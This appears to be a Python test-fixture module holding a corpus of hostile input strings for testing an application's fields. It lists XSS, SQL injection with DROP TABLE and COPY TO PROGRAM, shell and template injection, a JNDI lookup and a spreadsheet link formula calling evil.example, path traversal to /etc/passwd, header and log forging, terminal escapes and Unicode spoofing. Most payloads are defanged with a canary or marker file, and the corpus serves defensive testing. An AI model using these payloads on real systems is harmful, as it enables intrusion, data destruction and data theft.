"""Texts that strangers write to hurt whoever reads them: one corpus for every test of every field.

Each stands under a name that says whom it would hurt. `CANARY` is what a script would do if anybody ran it; the file that
others would touch is named so that a test can look for it. Nothing here is a secret, and none of it works on its own.
"""

from __future__ import annotations

import re

CANARY = "window.__pwned=1"
"""What a script here does. A browser in which `window.__pwned` is undefined has run none."""

FILE = "/tmp/cityward-was-here"
"""What a command here would make."""

TEXTS: dict[str, str] = {
    # -- browsers
    "script": f"<script>{CANARY}</script>",
    "closing script": f"</script><script>{CANARY}</script>",
    "event handler": f"<img src=x onerror={CANARY}>",
    "attribute": f'" autofocus onfocus="{CANARY}" x="',
    "attribute, single": f"' onmouseover='{CANARY}' x='",
    "svg": f"<svg/onload={CANARY}>",
    "svg animation": f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>",
    "frame": f'<iframe srcdoc="<script>parent.{CANARY}</script>"></iframe>',
    "javascript link": f"javascript:{CANARY}",
    "markdown link": f"[click](javascript:{CANARY})",
    "data link": f"data:text/html,<script>{CANARY}</script>",
    "style": "</style><style>*{display:none}</style>",
    "comment": f"--><script>{CANARY}</script><!--",
    "cdata": f"]]><script>{CANARY}</script>",
    "entity": f"&lt;script&gt;{CANARY}&lt;/script&gt;",
    "base": "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "mutation": f"<math><mtext></form><form><mglyph><style></math><img src onerror={CANARY}>",
    "prototype": "__proto__",
    "prototype, made": "constructor",
    "prototype path": "__proto__[polluted]",
    # -- databases
    "sql": "'; DROP TABLE incident; --",
    "sql, both": "' OR '1'='1",
    "sql, quoted name": '"; DROP TABLE finding; --',
    "sql, postgresql": f"$$; COPY incident TO PROGRAM 'touch {FILE}'; $$",
    "sql, sqlite": "'); ATTACH DATABASE '/tmp/cityward-was-here' AS x; --",
    "sql, parameter": ":incident %(incident)s ? $1",
    "like": "%_\\",
    # -- templates and formats
    "jinja": "{{7*7}}{{''.__class__.__mro__}}",
    "jinja block": "{% import os %}{{os.system('id')}}",
    "f-string": "{self.__class__.__init__.__globals__}",
    "dollar": "${7*7}$(touch /tmp/cityward-was-here)",
    "shell": "; touch /tmp/cityward-was-here #`touch /tmp/cityward-was-here`",
    "percent": "%s%n%x%(asctime)s",
    "format": "{0}{}{name!r:>99999999}",
    "jndi": "${jndi:ldap://evil.example/a}",
    # -- files
    "path": "../../../../etc/passwd",
    "path, windows": "..\\..\\windows\\win.ini",
    "path, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "path, overlong": "%c0%ae%c0%ae%c0%af",
    "file link": "file:///etc/passwd",
    "nul": "lamp\x00.png",
    # -- logs, mail, HTTP
    "log line": 'ok\n2026-01-01T00:00:00Z level=info event="signed in" who=operator',
    "log line, cr": "ok\rlevel=error event=forged",
    "log line, crlf": "ok\r\nlevel=error event=forged",
    "log line, separator": "ok\u2028level=error event=forged\u2029more",
    "log line, next": "ok\x85level=error event=forged\x0bmore\x0cmore",
    "log field": 'x" level=error event="forged',
    "header": "x\r\nSet-Cookie: cityward=stolen\r\n\r\n<html>",
    "mail header": "x\r\nBcc: everyone@evil.example",
    "cef": "x|10|msg=forged\\|act=ok cs1=y",
    "syslog": "<0>1 2026-01-01T00:00:00Z forged - - - x",
    # -- terminals
    "colour": "\x1b[31mred\x1b[0m",
    "erase": "\x1b[2J\x1b[1;1H\x1b[8m",
    "title": "\x1b]0;owned\x07",
    "link, terminal": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;dG91Y2ggL3RtcC94\x07",
    "csi, one byte": "\x9b31m\x9d0;owned\x9c",
    "backspace": "bad\b\b\bgood",
    "delete": "a\x7f\x7f",
    "device control": '\x1bP$q"p\x1b\\\x1b[c',
    # -- spreadsheets
    "formula": "=cmd|' /C calc'!A0",
    "formula, plus": "+SUM(1+1)*cmd|'/C calc'!A0",
    "formula, minus": "-2+3+cmd|'/C calc'!A0",
    "formula, at": "@SUM(1+1)",
    "formula, tab": "\t=1+1",
    "formula, link": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    # -- eyes
    "bidi": "user\u202etxt.exe\u202c",
    "bidi isolate": "a\u2066b\u2069\u2067c\u2069",
    "invisible": "ad\u200bmin\ufeff\u2060",
    "joiner": "ad\u200dmin",
    "soft hyphen": "ad\u00admin",
    "tags": "ok\U000e0041\U000e0042",
    "alike": "аdmin",  # Cyrillic: letters of every script pass
    "marks": "z" + "\u0301" * 200,
    # -- readers of YAML, JSON, buses
    "yaml tag": "!!python/object/apply:os.system ['touch /tmp/cityward-was-here']",
    "yaml anchor": "&a [*a, *a]",
    "yaml merge": "<<: *all",
    "yaml end": "x\n---\nplace: other\n...",
    "json": '","admin":true,"x":"',
    "json, comment": "/*x*/ //",
    "nats wildcard": "in.>",
    "nats star": "*.*.>",
    "nats system": "$SYS.REQ.SERVER.PING",
    "mqtt wildcard": "#",
    "mqtt plus": "+/+/#",
    "mqtt system": "$SYS/broker",
    # -- sizes and none
    "empty": "",
    "space": " ",
    "long": "A" * 5_000,
    "long, wide": "\U0001f4a3" * 1_000,
    "words for nothing": "null",
    "number": "-1e999",
    "noncharacter": "a\ufffe\uffff",
}

LONE_SURROGATE = "a\ud800b"
"""No UTF-8 has it; JSON can write it."""

BYTES: dict[str, bytes] = {
    "not UTF-8": b"a\xff\xfeb",
    "overlong slash": b"..\xc0\xaf..\xc0\xaf",
    "surrogate": b"a\xed\xa0\x80b",
    "cut short": "é".encode()[:1],
    "UTF-16": "script".encode("utf-16"),
}

IDS = {name: text for name, text in TEXTS.items() if "\n" not in text and len(text) < 200}
"""Those that fit into one line of a declaration."""

_DRIVES = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b\ufeff\ud800-\udfff]")


def drives(text: str) -> list[str]:
    """The characters of a printed text, line breaks apart, that would drive a terminal, fake a line or hide a letter."""
    return _DRIVES.findall(text)
